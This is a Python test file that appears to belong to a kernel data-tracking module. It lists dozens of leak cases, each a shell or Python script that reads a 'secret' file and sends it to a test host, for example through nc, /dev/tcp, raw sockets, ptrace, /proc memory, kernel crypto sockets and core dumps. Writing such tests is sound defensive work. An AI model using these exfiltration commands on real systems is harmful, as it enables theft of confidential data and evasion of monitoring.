# SPDX-License-Identifier: GPL-3.0-or-later
"""Leaks through each channel: one process reads, another sends."""

from tests.kernel.guest_run import CONTENT, SECRET
from tests.leaks.row import Leak, exactly, holds, python, snippet


def relayed(kind, wait="read"):
    """A receiver that waits before the sender reads the secret."""
    return f"channel receive {kind} {wait} & until [[ -e ready ]]; do sleep 0.02; done; sleep 0.1; channel send {kind} secret; wait $!"


RAW = """
import socket, struct
data = open("secret", "rb").read()
packet = struct.pack("!HHHH", 4000, 9, 8 + len(data), 0) + data
"""
FRAME = RAW + """
header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(packet), 1, 0, 9, 17, 0, bytes([10, 77, 0, 1]), bytes([10, 77, 0, 2]))
total = sum(struct.unpack("!10H", header))
header = header[:10] + struct.pack("!H", 0xffff & ~(total + (total >> 16))) + header[12:]
socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM).sendto(header + packet, ("to-remote", 0x0800, 0, 0, b"\\xff" * 6))
"""
CIPHER = """
import socket
def crypt(operation, data):
    with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET) as cipher:
        cipher.bind(("skcipher", "ctr(aes)"))
        cipher.setsockopt(socket.SOL_ALG, socket.ALG_SET_KEY, b"k" * 16)
        request = cipher.accept()[0]
        request.sendmsg_afalg([data], op=operation, iv=b"i" * 16)
        return request.recv(len(data))
data = open("secret", "rb").read()
data = crypt(socket.ALG_OP_DECRYPT, crypt(socket.ALG_OP_ENCRYPT, data))
socket.create_connection(("10.77.0.2", 9)).sendall(data)
"""
NETLINK = """
import os
def netlink():
    return socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 2)
inbox = netlink()
inbox.bind((0, 0))
if not os.fork():
    netlink().sendto(read(), inbox.getsockname())
    os._exit(0)
os.wait()
inbox.setblocking(False)
send(inbox.recv(1000))
"""
HASH = """
import socket
digest = socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)
digest.bind(("hash", "sha256"))
request = digest.accept()[0]
request.sendall(open("secret", "rb").read())
socket.create_connection(("10.77.0.2", 9)).sendall(request.recv(32))
"""

# Does as sshd does: one process reads a program's terminal output, and has a connection.
REMOTE_LOGIN = """
import os, pty, socket
out = socket.create_connection(("10.77.0.2", 9))
child, terminal = pty.fork()
if not child:
    os.execlp("sh", "sh", "-c", "sleep 0.2; cat secret")
try:
    while data := os.read(terminal, 1000):
        out.sendall(data)
except OSError:
    pass
"""
# A terminal inside such a terminal: its reader has no connection and writes to the outer terminal.
REMOTE_LOGIN_TWICE = REMOTE_LOGIN.replace('"sleep 0.2; cat secret"', '"exec script -qc \'sleep 0.2; cat secret\' /dev/null"')

# The first four of the clean bytes are gone when derived ones come after them.
READ_IN_PART = """
import os
def read_in_part(to, source):
    to.sendall(b"." * 100)
    source.recv(4)
    if not os.fork():
        to.sendall(read())
        os._exit(0)
    os.wait()
    got = b""
    while len(got) < 100:
        got += source.recv(100 - len(got))
    send(got[96:])
"""
TCP_PAIR = """
listener = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(listener.getsockname())
read_in_part(client, listener.accept()[0])
"""
WRITTEN = """
import os
send(b"%d" % os.write(os.open("/dev/null", os.O_WRONLY), b"x" * read()[12]))
"""
NAME = """
import ctypes
ctypes.CDLL(None).prctl(15, read()[17:31])
with open("/proc/self/comm", "rb") as file:
    send(file.read())
"""
EVENT = """
import ctypes, os
class Event(ctypes.Structure):
    _pack_, _fields_ = 1, [("events", ctypes.c_uint32), ("data", ctypes.c_uint64)]
system, writes = ctypes.CDLL(None), os.pipe()[1]
set = system.epoll_create1(0)
system.epoll_ctl(set, 1, writes, ctypes.byref(Event(4, int.from_bytes(read()[17:25], "little"))))
system.epoll_wait(set, ctypes.byref(event := Event()), 1, -1)
send(event.data.to_bytes(8, "little"))
"""


def scripts():
    """Name -> shell script, for channels in which the secret arrives unchanged."""
    return {
        # Pipes.
        "pipe": "cat secret | cat | cat | nc remote 9",
        "pipe-late": "cat secret | { sleep 0.2; cat; } | nc remote 9",
        "pipe-by-path": "cat secret | cat /dev/stdin | nc remote 9",
        "pipe-shared": "{ cat secret; echo; } | { read -r a; read -r b; echo $b; } | nc remote 9",
        "fifo": "mkfifo way; nc remote 9 < way & cat secret > way; wait $!",
        "substitution": "nc remote 9 < <(cat secret)",
        "to-substitution": "tee >(nc remote 9) < secret > /dev/null; sleep 0.5",
        "here-document": "cat <<END | nc remote 9\n$(cat secret)\nEND",
        # Sockets of this machine.
        "unix-stream": relayed("stream"),
        "unix-datagram": relayed("datagram"),
        "unix-packet": relayed("packet"),
        "unix-abstract": relayed("abstract"),
        "unix-message": relayed("stream", "message"),
        "loopback-tcp": relayed("tcp"),
        "loopback-udp": relayed("udp"),
        "loopback-tcp6": relayed("tcp6"),
        "own-address": relayed("address"),
        "unix-peeked": "way peeked secret",
        "socket-pair": snippet("a, b = socket.socketpair()\na.sendall(read())\nsend(b.recv(100))"),
        # Descriptors that are passed, inherited or opened anew.
        "passed-file": "leak passed-file write secret",
        "passed-pipe": "leak passed-pipe write secret",
        "passed-memory-file": "way passed-memory-file secret",
        "passed-nameless-file": "way passed-nameless-file secret",
        "given-memory-file": "way given-memory-file secret",
        "inherited-memory-file": "leak read memory-file secret",
        "inherited-file": "exec 3< secret; bash -c 'cat <&3' | nc remote 9",
        "inherited-offset": "exec 3< secret; read -r head <&3; bash -c 'read -r line <&3; echo $line > /dev/tcp/10.77.0.2/9'",
        "opened-by-proc": "exec 3< secret; cat /proc/$$/fd/3 | nc remote 9",
        # Files that take the label on.
        "renamed": "mv secret other; nc remote 9 < other",
        "linked": "ln secret other; rm secret; nc remote 9 < other",
        "linked-by-symbol": "ln -s secret other; nc remote 9 < other",
        "truncated-copy": "cp secret copy; truncate -s 32 copy; nc remote 9 < copy",
        "truncated": "truncate -s 32 secret; nc remote 9 < secret",
        "lengthened": "truncate -s 4096 secret; head -c 100 secret | tr '\\0' . | nc remote 9",
        "appended": "echo first > copy; cat secret >> copy; tail -n 2 copy | nc remote 9",
        "exchanged": "echo public > other; mv secret hold; mv other secret; mv hold other; nc remote 9 < other",
        "edited": "sed -i s/anna/hans/ secret; nc remote 9 < secret",
        "copy-of-copy": "cp secret a; cp a b; cp b c; nc remote 9 < c",
        "other-file-system": "cp secret /dev/shm/copy; nc remote 9 < /dev/shm/copy; rm -f /dev/shm/copy",
        "nameless-file": "exec 3<> copy; rm copy; cat secret >&3; cat /proc/self/fd/3 | nc remote 9",
        "mapped-copy": "way mapped-after secret",
        "mapped-before": "way mapped-before secret",
        "bound": "touch other; mount --bind secret other; nc remote 9 < other; umount -l other",
        "database": "sqlite3 base \"create table t (x); insert into t values (readfile('secret'))\"; "
                    "sqlite3 base 'select x from t' | nc remote 9",
        "log": "logger -s \"$(sed -n 2p secret)\" 2>> log; nc remote 9 < log",
        # From file to file inside the kernel.
        "sendfile": "leak read sendfile secret",
        "sendfile-to-file": "leak sendfile write secret",
        "splice": "leak splice splice secret",
        "tee-call": "leak tee write secret",
        "copy-file-range": "leak copy_file_range write secret",
        # Programs that are started.
        "arguments": "x=$(sed -n 2p secret); bash -c 'echo $0 > /dev/tcp/10.77.0.2/9' \"$x\"",
        "environment": "export X=$(sed -n 2p secret); bash -c 'echo $X > /dev/tcp/10.77.0.2/9'",
        "environment-of-grandchild": "X=$(sed -n 2p secret) bash -c 'exec bash -c \"exec env\"' | grep ^X= | nc remote 9",
        "command-text": "bash -c \"echo $(sed -n 2p secret) > /dev/tcp/10.77.0.2/9\"",
        "script-that-was-made": "sed -n 's/^anna/echo &/p' secret > made; bash made | nc remote 9",
        # Memory of other processes.
        "process-vm": "way process-vm secret",
        "proc-mem": "way proc-mem secret",
        "proc-mem-early": "way proc-mem-early secret",
        "traced": "way traced secret",
        "traced-from-birth": "way traced-from-birth secret",
        "strace": "strace -s 100 -e trace=read cat secret 2>&1 > /dev/null | grep Sphinx | nc remote 9",
        "shared-file": "way shared-file secret",
        # Terminals that are shown elsewhere.
        "remote-login": python(REMOTE_LOGIN),
        "remote-login-twice": python(REMOTE_LOGIN_TWICE),
        # Objects of the kernel that give it back.
        "event-counter": "way counter secret",
        "kernel-cipher": python(CIPHER),
        "netlink": snippet(NETLINK),
        # Other ways out of the machine.
        "ipv6": "nc remote6 9 < secret",
        "raw": python(RAW + "socket.socket(socket.AF_INET, socket.SOCK_RAW, 17).sendto(packet, ('10.77.0.2', 0))"),
        "packet": python(FRAME),
        "many-messages": "leak read sendmmsg secret",
        "fast-open": "leak read fast-open secret",
        "urgent": snippet("with socket.create_connection(('10.77.0.2', 9)) as s:\n    s.send(read() + b'.', socket.MSG_OOB)"),
    }


LEAKS = [Leak(name, script) for name, script in scripts().items()] + [
    Leak("kernel-digest", python(HASH), shows=lambda data: len(data) == 32),
    Leak("overlay", "mkdir upper work merged lower; cp secret lower/secret; "
         "mount -t overlay -o lowerdir=lower,upperdir=upper,workdir=work none merged; nc remote 9 < merged/secret; umount -l merged"),
    Leak("socket-read-in-part", snippet(READ_IN_PART + "read_in_part(*socket.socketpair())"), shows=exactly(CONTENT[:4])),
    Leak("tcp-read-in-part", snippet(READ_IN_PART + TCP_PAIR), shows=exactly(CONTENT[:4])),
    Leak("count-of-write", snippet(WRITTEN), shows=exactly(b"%d" % CONTENT[12])),
    Leak("name-given-back", snippet(NAME), shows=exactly(SECRET[:14])),
    Leak("data-of-event", snippet(EVENT), shows=exactly(SECRET[:8])),
    Leak("pipe-to-thread-after-main", "cat secret | way reading-thread-after-main secret"),
    Leak("process-name", "way name secret", shows=exactly(SECRET + b"0")),
]
# The module refuses to put data into channels that it cannot follow.
REFUSED = [
    Leak("queue-of-system-v", relayed("sysv"), timeout=8),
    Leak("queue-of-posix", relayed("queue"), timeout=8),
    Leak("attribute", "touch other; setfattr -n user.x -v \"$(sed -n 2p secret)\" other; "
         "getfattr -n user.x --only-values other | nc remote 9",
         shows=holds(SECRET)),
    Leak("pipe-to-32-bit-call", "{ sleep 0.3; cat secret; } | way calls-of-32-bit secret"),
    Leak("core", "ulimit -c unlimited; echo core > /proc/sys/kernel/core_pattern; way core secret; nc remote 9 < core"),
    Leak("core-of-shell", "ulimit -c unlimited; echo core > /proc/sys/kernel/core_pattern; bash -c 'x=$(< secret); kill -SEGV $$'; "
         "nc remote 9 < core"),
]
